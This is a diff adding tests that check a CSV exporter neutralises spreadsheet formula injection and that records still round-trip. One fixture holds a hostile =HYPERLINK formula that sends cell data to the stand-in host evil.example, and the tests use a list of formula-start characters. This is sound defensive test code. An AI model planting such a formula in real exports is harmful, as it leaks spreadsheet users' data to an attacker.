@@ -2,6 +2,10 @@
 
 from __future__ import annotations
 
+import csv
+import io
+import itertools
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
@@ -53,6 +57,49 @@ def test_yaml_round_trips(items: list[EntryRecord]) -> None:
 @given(records)
 def test_csv_round_trips(items: list[EntryRecord]) -> None:
     assert parse_csv(dump_csv(items)) == items
+
+
+FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote() -> None:
+    hostile = EntryRecord(EntryContent(
+        slug="fees", question='=HYPERLINK("http://evil.example/?x="&A1,"fees")', answer="+1 for the fees",
+        paraphrases=("-2+3",), tags=("@SUM(A1)",), language="en",
+    ), "published")  # fmt: skip
+    rows = list(csv.reader(io.StringIO(dump_csv([hostile]), newline="")))
+    assert rows[1][:4] == ["fees", '\'=HYPERLINK("http://evil.example/?x="&A1,"fees")', '["-2+3"]', "'+1 for the fees"]
+    assert all(not cell.startswith(tuple(FORMULA_STARTS)) for row in rows for cell in row)
+    assert parse_csv(dump_csv([hostile])) == [hostile]
+
+
+@pytest.mark.parametrize("start", [*FORMULA_STARTS, "'", "'=", "''-", "'\t"])
+def test_csv_round_trips_texts_that_start_like_formulas_or_with_quotes(start: str) -> None:
+    item = EntryRecord(EntryContent(
+        slug="s", question=f"{start}question", answer=f"{start}answer", paraphrases=(f"{start}p",),
+        tags=(f"{start}t",), language="en",
+    ), "draft")  # fmt: skip
+    exported = dump_csv([item])
+    cells = next(itertools.islice(csv.reader(io.StringIO(exported, newline="")), 1, None))
+    assert all(not cell.startswith(tuple(FORMULA_STARTS)) for cell in cells)
+    assert parse_csv(exported) == [item]
+
+
+def test_a_hand_made_csv_loses_a_quote_only_before_a_formula_character() -> None:
+    body = "slug,question,paraphrases,answer,tags,language,status\ns,'tis the season?,[],'=1 is kept,[],en,\n"
+    [item] = parse_csv(body)
+    assert (item.content.question, item.content.answer) == ("'tis the season?", "=1 is kept")
+
+
+@given(records, st.lists(st.sampled_from([*FORMULA_STARTS, "'"]), min_size=1, max_size=3).map("".join))
+def test_csv_round_trips_whatever_the_texts_start_with(items: list[EntryRecord], start: str) -> None:
+    prefixed = [
+        EntryRecord(replace(c, question=start + c.question, answer=start + c.answer,
+                            paraphrases=tuple(start + p for p in c.paraphrases)), r.status)  # fmt: skip
+        for r in items
+        for c in [r.content]
+    ]
+    assert parse_csv(dump_csv(prefixed)) == prefixed
 
 
 @settings(max_examples=25, suppress_health_check=[HealthCheck.function_scoped_fixture])
